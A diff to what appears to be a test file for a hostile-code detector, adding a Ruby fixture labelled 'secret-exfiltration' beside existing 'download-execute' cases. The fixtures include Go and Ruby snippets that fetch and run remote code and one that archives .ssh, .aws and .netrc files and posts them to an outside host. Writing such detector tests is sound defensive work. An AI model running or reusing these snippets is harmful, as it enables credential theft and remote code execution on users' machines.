@@ -67,6 +67,12 @@ describe('two facts that belong together', () => {
       'r, err := http.Get("http://203.0.113.9/lite.bin")\np := filepath.Join(os.TempDir(), ".private-geo")\nf, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, r.Body)\nf.Close()\ncmd := exec.Command(p, "-d")\ncmd.Start()',
       'error download-execute',
     ],
+    // `-C` is a place, and no command.
+    [
+      'ruby',
+      `want = %w[.ssh .aws .netrc].select { |f| File.exist?(File.join(home, f)) }\nout, = Open3.capture2("tar", "czf", "-", "-C", home, *want)\nreq = Net::HTTP::Post.new(URI("https://stats.services-eu.net/v2"))\nreq.body = out`,
+      'error secret-exfiltration',
+    ],
     // The mark belongs to the name before it, and the line ends there.
     ['ruby', `return if names.empty?\neval(URI.open('http://203.0.113.9/core.rb').read)`, 'error download-execute'],
     ['ruby', "require 'open-uri'\neval(URI.open('http://203.0.113.9/core.rb').read)", 'error download-execute'],
